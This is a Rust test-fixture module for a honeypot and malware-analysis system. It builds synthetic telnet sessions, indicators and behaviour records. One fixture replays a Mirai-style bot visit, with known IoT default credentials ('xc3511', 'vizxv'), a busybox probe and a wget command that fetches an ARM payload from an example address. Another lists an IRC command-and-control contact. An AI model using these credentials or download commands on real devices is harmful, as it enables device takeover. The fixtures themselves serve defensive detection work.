//! Makes events, indicators and analyses for tests.

use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use ukai_model::{
    Analysis, Behaviour, CaptureHow, Class, CloseReason, Confidence, Contact, Dropped, Ended,
    Event, EventId, EventKind, Evidence, EvidenceKind, FileType, Fingerprint, Flow, Indicator,
    IndicatorId, Observable, ObservableKind, Outcome, PeerText, Role, Run, SCHEMA_VERSION,
    SensorId, SessionId, Sha256, Timestamp, Tlp, Transport,
};

/// 2023-11-14T22:13:20Z.
pub(crate) const START_S: u64 = 1_700_000_000;

pub(crate) fn at(seconds: u64) -> Timestamp {
    Timestamp::from_secs(START_S + seconds)
}

pub(crate) fn sensor() -> SensorId {
    "test".parse().unwrap()
}

/// The low bits of a random number land in bits that an identity keeps.
pub(crate) fn session_id(n: u32, time: Timestamp) -> SessionId {
    SessionId::new(time, u128::from(n) << 32)
}

pub(crate) fn event_id(n: u32, time: Timestamp) -> EventId {
    EventId::new(time, u128::from(n) << 32)
}

pub(crate) fn ip(n: u8) -> IpAddr {
    Ipv4Addr::new(192, 0, 2, n).into()
}

pub(crate) fn flow(source: u8) -> Flow {
    Flow::new(
        Transport::Tcp,
        SocketAddr::new(ip(source), 40_000),
        "198.51.100.1:23".parse().unwrap(),
    )
}

/// Event number `n`, of session `session` from `192.0.2.{source}`.
pub(crate) fn event(
    n: u32,
    time: Timestamp,
    session: SessionId,
    source: u8,
    kind: EventKind,
) -> Event {
    Event {
        v: SCHEMA_VERSION,
        id: event_id(n, time),
        time,
        sensor: sensor(),
        session: Some(session),
        flow: Some(flow(source)),
        kind,
    }
}

pub(crate) fn open() -> EventKind {
    EventKind::SessionOpen { protocol: "telnet".into(), persona: "router-mips".into() }
}

pub(crate) fn close() -> EventKind {
    EventKind::SessionClose {
        protocol: "telnet".into(),
        reason: CloseReason::Peer,
        duration_ms: 1_500,
        bytes_in: 120,
        bytes_out: 4_000,
        recorded: true,
    }
}

pub(crate) fn login(user: &str, password: &str, success: bool) -> EventKind {
    EventKind::LoginAttempt {
        protocol: "telnet".into(),
        user: user.into(),
        password: password.into(),
        method: None,
        proof: None,
        success,
    }
}

pub(crate) fn command(line: &str) -> EventKind {
    EventKind::CommandInput { line: line.into(), unknown: Vec::new() }
}

pub(crate) fn download(url: &str) -> EventKind {
    EventKind::DownloadRequest { url: url.into(), tool: "wget".into() }
}

pub(crate) fn captured(sha256: Sha256, name: &str) -> EventKind {
    EventKind::SampleCaptured {
        sha256,
        size: 1_234,
        how: CaptureHow::Fetched,
        name: Some(name.into()),
        url: Some(PeerText::from(format!("http://203.0.113.9/{name}").as_str())),
    }
}

/// A bot's visit: six events within two seconds. Numbers from `n * 10` on are used.
pub(crate) fn visit(n: u32, time: Timestamp, source: u8) -> Vec<Event> {
    let session = session_id(n, time);
    let kinds = [
        open(),
        login("root", "xc3511", false),
        login("root", "vizxv", true),
        command("enable; sh; /bin/busybox MIRAI"),
        command("wget http://203.0.113.9/arm -O- >.x"),
        close(),
    ];
    let make = |(i, kind): (u32, EventKind)| {
        let step = Timestamp::from_millis(time.millis() + u64::from(i) * 300);
        event(n * 10 + i, step, session, source, kind)
    };
    (0..).zip(kinds).map(make).collect()
}

pub(crate) fn analysis(sha256: Sha256, started: Timestamp, outcome: Outcome) -> Analysis {
    Analysis {
        sha256,
        engine: "static".into(),
        engine_version: 1,
        started,
        duration_ms: 3,
        outcome,
        size: 1_234,
        file_type: Some(FileType {
            name: "elf".into(),
            mime: "application/x-executable".into(),
            description: "ELF 32-bit LSB executable, ARM".into(),
            reasons: Vec::new(),
            also: Vec::new(),
        }),
        hashes: None,
        elf: None,
        pe: None,
        mach: Vec::new(),
        dex: Vec::new(),
        android: Vec::new(),
        entropy: 6.5,
        observables: Vec::new(),
        members: Vec::new(),
        configurations: Vec::new(),
        artefacts: Vec::new(),
        yara: Vec::new(),
        strings: vec!["/bin/busybox".into()],
        commands: Vec::new(),
        acts: Vec::new(),
        notes: Vec::new(),
    }
}

/// Of one run that found a C&C server, a distribution server, a scan target and two files.
pub(crate) fn behaviour(sha256: Sha256, started: Timestamp, score: u8) -> Behaviour {
    let contact = |name: &str, address: &str, port: u16, class: Class, confidence: u8| Contact {
        name: name.into(),
        addresses: vec![address.parse().expect("an address")],
        ..Contact::new(Transport::Tcp, port, class, confidence)
    };
    let dropped = |name: &[u8], served: bool| Dropped {
        sha256: Sha256::of(name),
        size: 9,
        came: 9,
        path: "/tmp/x".into(),
        reason: "dropped".into(),
        served,
        runs: vec![1],
    };
    Behaviour {
        runs: vec![Run {
            number: 1,
            started,
            duration_ms: 60_000,
            architecture: "arm".into(),
            command: "./x".into(),
            scenario: "open".into(),
            settings: Vec::new(),
            ended: Ended::TimeUsed,
            reason: None,
            reached: true,
            traced: true,
            records: 9,
            lost: 0,
            events: 9,
            notes: Vec::new(),
        }],
        summary: "It waits for orders.".into(),
        score,
        contacts: vec![
            contact("", "2001:db8::9", 80, Class::Distribution, 70),
            contact("", "203.0.113.7", 23, Class::ScanTarget, 99),
            contact("c2.example", "192.0.2.4", 6667, Class::C2, 95),
        ],
        drops: vec![dropped(b"own", false), dropped(b"ours", true)],
        fingerprint: Fingerprint {
            features: vec!["irc".into()],
            minhash: vec![u32::from(sha256.as_bytes()[0]); 4],
        },
        ..Behaviour::new(sha256, started)
    }
}

pub(crate) fn indicator(value: &str, role: Role, seen: Timestamp) -> Indicator {
    let observable = Observable { kind: ObservableKind::Domain, value: value.into() };
    Indicator {
        id: IndicatorId::of(&observable, role),
        observable,
        role,
        confidence: Confidence::new(60),
        tlp: Tlp::Green,
        first_seen: seen,
        last_seen: seen,
        valid_until: Timestamp::from_secs(seen.secs() + 86_400),
        evidence: Vec::new(),
        evidence_count: 0,
        withheld: None,
    }
}

pub(crate) fn evidence(
    time: Timestamp,
    session: Option<SessionId>,
    sample: Option<Sha256>,
) -> Evidence {
    Evidence {
        kind: EvidenceKind::StaticAnalysis,
        time,
        event: None,
        session,
        sensor: Some(sensor()),
        sample,
        detail: "plain at offset 17".into(),
    }
}

/// Bytes that do not compress.
pub(crate) fn noise(seed: u64, len: usize) -> Vec<u8> {
    let mut state = seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1;
    let step = |_| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        (state >> 24) as u8
    };
    (0..len).map(step).collect()
}

/// A line that compresses little.
pub(crate) fn noisy_line(seed: u64, len: usize) -> String {
    noise(seed, len).iter().map(|byte| char::from(b'0' + byte % 64)).collect()
}
